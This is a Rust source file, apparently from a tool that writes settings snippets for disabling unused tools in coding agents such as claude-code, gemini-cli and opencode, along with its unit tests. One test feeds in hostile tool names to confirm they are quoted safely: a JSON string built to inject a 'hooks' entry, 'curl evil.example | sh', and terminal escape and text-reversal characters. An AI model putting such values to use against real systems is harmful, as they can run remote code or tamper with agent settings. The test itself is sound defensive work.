//! What a person can do about what is carried for nothing, as text to copy.

use deadweight_present::quote;
use deadweight_profiles::{CLIENT_STUBS, LeaveOut, WORKING_TOOLS, by_id};

/// How tools of an agent's own are left out.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LeftOut {
    /// Where, behind "can be left out": `in ~/.gemini/settings.json`.
    pub how: String,
    /// What is to stand there.
    pub text: String,
}

/// How an agent is told to leave out tools of its own; `None` where that is not known, or none of the names can be copied
/// without doing something else than naming a tool.
#[must_use]
pub fn leave_out<'t>(agent: &str, tools: impl IntoIterator<Item = &'t str>) -> Option<LeftOut> {
    let names: Vec<&str> = tools.into_iter().filter(|name| quote::can_be_copied(name)).collect();
    if names.is_empty() {
        return None;
    }
    let json = |name: &&str| quote::json(&serde_json::Value::from(*name).to_string());
    let (file, members, inner) = match by_id(agent)?.leave_out?.value {
        LeaveOut::Names { file, members } => {
            (file, members, format!("[{}]", names.iter().map(json).collect::<Vec<_>>().join(", ")))
        }
        LeaveOut::Members { file, members, value } => {
            let each = names.iter().map(|name| format!("{}:{value}", json(name)));
            (file, members, format!("{{{}}}", each.collect::<Vec<_>>().join(", ")))
        }
    };
    let mut text = inner;
    for (at, member) in members.iter().rev().enumerate() {
        text = if at == 0 { format!("\"{member}\":{text}") } else { format!("\"{member}\":{{{text}}}") };
    }
    Some(LeftOut { how: format!("in {file}"), text })
}

/// Whether an agent's own tool is one by which it does its work: it is not proposed to do without.
#[must_use]
pub fn is_working_tool(name: &str) -> bool {
    WORKING_TOOLS.value.contains(&name.to_ascii_lowercase().as_str())
}

/// Whether a tool stands for what the client has not loaded: nobody calls it, and nobody can leave it out.
#[must_use]
pub fn is_client_stub(name: &str) -> bool {
    CLIENT_STUBS.value.contains(&name)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text(agent: &str, tools: &[&str]) -> Option<String> {
        leave_out(agent, tools.iter().copied()).map(|left| format!("{}: {}", left.how, left.text))
    }

    #[test]
    fn each_agent_is_told_in_its_own_settings() {
        let of = |agent| text(agent, &["WebSearch", "NotebookEdit"]).unwrap();
        assert_eq!(
            of("claude-code"),
            r#"in ~/.claude/settings.json: "permissions":{"deny":["WebSearch", "NotebookEdit"]}"#
        );
        assert_eq!(
            of("gemini-cli"),
            r#"in ~/.gemini/settings.json: "tools":{"exclude":["WebSearch", "NotebookEdit"]}"#
        );
        assert_eq!(
            of("opencode"),
            r#"in ~/.config/opencode/opencode.json: "permission":{"WebSearch":"deny", "NotebookEdit":"deny"}"#
        );
        assert_eq!((text("aider", &["x"]), text("nobody", &["x"])), (None, None));
    }

    #[test]
    fn a_name_does_nothing_but_name() {
        let hostile =
            ["a\"], \"hooks\": {\"x\": \"", "b\ncurl evil.example | sh", "c\u{1b}[2J", "--flag", "d\u{202e}"];
        let text = text("claude-code", &hostile).unwrap();
        assert_eq!(
            text,
            r#"in ~/.claude/settings.json: "permissions":{"deny":["a\"], \"hooks\": {\"x\": \""]}"#
        );
        assert_eq!(leave_out("claude-code", ["b\n", ""]), None);
    }
}
